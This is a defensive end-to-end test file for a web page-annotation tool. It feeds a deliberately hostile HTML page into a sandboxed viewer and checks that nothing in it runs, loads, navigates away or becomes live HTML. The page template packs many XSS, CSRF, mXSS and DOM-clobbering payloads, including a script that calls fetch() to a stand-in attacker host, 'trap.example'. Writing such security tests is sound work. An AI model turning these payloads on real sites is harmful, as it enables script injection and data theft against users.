"""A page that tries everything: nothing of it runs, loads, leaves its frame, or becomes HTML of ours."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Browser

from tests.e2e.person import Person
from untemplate.catalog import Catalog
from untemplate.clustering import cluster
from untemplate.schema import Schema
from untemplate.sources import read_pages
from untemplate.web import add_site, running_server

NAME = "<img class=pwned src=x onerror=alert(1)>"
HOSTILE = """<!doctype html><html onload="{hack}"><head>
<base href="{trap}/base/"><meta http-equiv="refresh" content="0;url={trap}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<script>{hack}</script><script src="{trap}/script.js"></script><script type="module" src="{trap}/module.js"></script>
<link rel="stylesheet" href="{trap}/sheet.css"><link rel="prefetch" href="{trap}/prefetch">
<link rel="dns-prefetch" href="{trap}"><link rel="preload" as="image" href="{trap}/preload">
<link rel="icon" href="{trap}/icon"><link rel="manifest" href="{trap}/manifest">
<style>@import "{trap}/import.css"; @import url({trap}/import2.css);
body {{ background: url({trap}/css.png), u\\72l({trap}/escaped.png); }}
@font-face {{ font-family: trap; src: url({trap}/font.woff); }} h1 {{ font-family: trap; }}
untemplate-marks {{ display: none !important; }} * {{ pointer-events: auto !important; }}
</style></head>
<body onload="{hack}" onpageshow="{hack}" background="{trap}/body.png">
<h1>{name}</h1><p>Page {number}</p>
<a id="js" href="javascript:{hack}">script link</a> <a id="out" href="{trap}/link" target="_top">away</a>
<a href="java&#10;script:{hack}">obscure link</a> <a href="data:text/html,<script>{hack}</script>">data link</a>
<img src="{trap}/img.png" onerror="{hack}" srcset="{trap}/set.png 2x"><img src=x onerror="{hack}">
<img src="{private}/private.png"><img src="http://router/private.png">
<div style="background: url({private}/private.css.png)"></div>
<picture><source srcset="{trap}/source.png"><img src="{trap}/picture.png"></picture>
<svg onload="{hack}"><script>{hack}</script><use href="{trap}/use.svg#a"></use><image href="{trap}/svg.png"></image>
<animate onbegin="{hack}" attributeName="x" dur="1s"></animate>
<foreignObject><iframe srcdoc="<script>{hack}</script>"></iframe></foreignObject></svg>
<math><mtext><style><img src=x onerror="{hack}"></style></mtext></math>
<iframe src="{trap}/frame"></iframe><iframe srcdoc="<script>parent.parent.hacked = 1</script>"></iframe>
<object data="{trap}/object"></object><embed src="{trap}/embed">
<video poster="{trap}/poster" src="{trap}/video"></video>
<audio src="{trap}/audio" autoplay></audio><input type="image" src="{trap}/input.png">
<form id="form" action="{own}/api/labels/change" method="post" enctype="text/plain">
<input name='{{"site":"s","page":"0.html","remove":[1],"x":"' value='"}}' autofocus onfocus="{hack}">
<button id="submit" formaction="{trap}/form">send</button></form>
<div style="background: url({trap}/style.png); position: fixed; inset: 40px auto auto 0" onclick="{hack}">on top</div>
<details open ontoggle="{hack}"><summary>more</summary>detail</details>
<noscript><p title="</noscript><script>{hack}</script>">none</p></noscript>
<template><script>{hack}</script></template><xmp><script>{hack}</script></xmp>
<textarea></textarea><script>{hack}</script>
<form name="body"><input name="documentElement"></form><a id="nodes" name="parent">clobber</a>
</body></html>"""


class Trap:
    """A server of an attacker: whatever is asked for is remembered."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.hits.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/png" if self.path.endswith("png") else "text/css")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *arguments: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.private_url = f"http://127.0.0.1:{self.server.server_port}"
        self.url = f"http://trap.example:{self.server.server_port}"
        self._thread = Thread(target=self.server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self._thread.join()
        self.server.server_close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    trap = Trap()
    yield trap
    trap.close()


@pytest.fixture
def hostile(trap: Trap, browser: Browser, tmp_path: Path) -> Iterator[Person]:
    """A person who looks at a hostile page."""
    folder = tmp_path / "pages"
    folder.mkdir()
    with Catalog.open(tmp_path / "catalog.db") as catalog, running_server(catalog) as server:
        hack = f"top.hacked=1;hacked=1;fetch('{trap.url}/hack')"
        for number in range(4):
            name = NAME.replace("<", "&lt;")
            addresses = {"trap": trap.url, "private": trap.private_url, "own": server.origin}
            html = HOSTILE.format(hack=hack, name=name, number=number, **addresses)
            (folder / f"{number}.html").write_text(html, "utf-8")
        pages = read_pages(folder)
        add_site(catalog, "s", cluster(pages), Schema.load("restaurant"), pages, {})
        context = browser.new_context(viewport={"width": 1280, "height": 800})
        person = Person(context.new_page(), server)
        person.window.on("dialog", lambda dialog: pytest.fail(f"a page said {dialog.message}"))
        yield person
        context.close()


def test_nothing_of_a_hostile_page_acts(hostile: Person, trap: Trap) -> None:
    window = hostile.window
    hostile.open()
    address = f"{hostile.server.origin}/#/annotate"
    for id in ("js", "out", "submit"):
        hostile.page.locator(f"#{id}").click(force=True)
    hostile.page.locator("#js").click(force=True, button="middle", modifiers=["Control"])
    window.wait_for_timeout(300)
    assert trap.hits == []
    assert window.url.startswith(address)
    assert len(window.context.pages) == 1
    assert len(window.frames) == 2
    for frame in window.frames:
        assert frame.evaluate("window.hacked") is None
        assert (
            frame.evaluate(
                "document.querySelectorAll('script[src*=trap], iframe[srcdoc], object, embed').length"
            )
            == 0
        )
    assert hostile.page.evaluate(
        "[...document.querySelectorAll('*')].every(e => ![...e.attributes].some(a => /^on/.test(a.name)))"
    )


def test_a_frame_that_was_taken_over_reaches_nothing(hostile: Person, trap: Trap) -> None:
    """Even code that runs inside the frame, which none of a page does, finds walls."""
    hostile.open()
    origin = hostile.server.origin
    run = hostile.page.evaluate
    assert run("origin") == "null"
    assert (
        run("() => { try { return parent.document.title } catch (error) { return error.name } }")
        == "SecurityError"
    )
    assert (
        run("() => { try { return localStorage.length } catch (error) { return error.name } }")
        == "SecurityError"
    )
    assert (
        run("() => { try { return document.cookie } catch (error) { return error.name } }") == "SecurityError"
    )
    for url in (f"{origin}/api/sites", f"{trap.url}/fetch"):
        assert (
            run("url => fetch(url, {credentials: 'include'}).then(() => 'answered', () => 'refused')", url)
            == "refused"
        )
    run("url => { new Image().src = url; navigator.sendBeacon(url); open(url); }", f"{trap.url}/beacon")
    away = "url => { try { top.location = url } catch (error) { return error.name } }"
    assert run(away, f"{trap.url}/top") == "SecurityError"
    run("url => { location = url }", f"{trap.url}/away")
    hostile.window.wait_for_timeout(300)
    assert trap.hits == []
    assert hostile.window.url.startswith(origin)


def test_texts_of_a_page_stay_texts(hostile: Person) -> None:
    hostile.open()
    hostile.choose("name")
    with hostile.completing():
        hostile.page.locator("h1").click()
    assert hostile.value("name") == NAME
    assert hostile.records()[1][0] == NAME
    assert hostile.window.locator(".pwned").count() == 0
    refused = "() => { try { document.body.innerHTML = '<b>x</b>' } catch (error) { return error.name } }"
    assert hostile.window.evaluate(refused) == "TypeError"  # Trusted Types: no text can become HTML


def test_remote_files_only_when_switched_on(hostile: Person, trap: Trap) -> None:
    hostile.open()
    assert hostile.page
    assert trap.hits == []
    with hostile.completing():
        hostile.window.get_by_role("checkbox", name="Remote images and styles").check()
    assert hostile.page.locator("img").first.evaluate("image => image.src") == f"{trap.url}/img.png"
    while not {"/img.png", "/sheet.css"} <= set(trap.hits):
        hostile.window.wait_for_timeout(50)
    hostile.window.wait_for_timeout(300)
    assert not [path for path in trap.hits if path.startswith("/private")]  # not to addresses of this network
    assert not {"/script.js", "/module.js", "/hack", "/frame", "/form", "/refresh", "/link"} & set(trap.hits)
    assert hostile.page.evaluate("window.hacked") is None
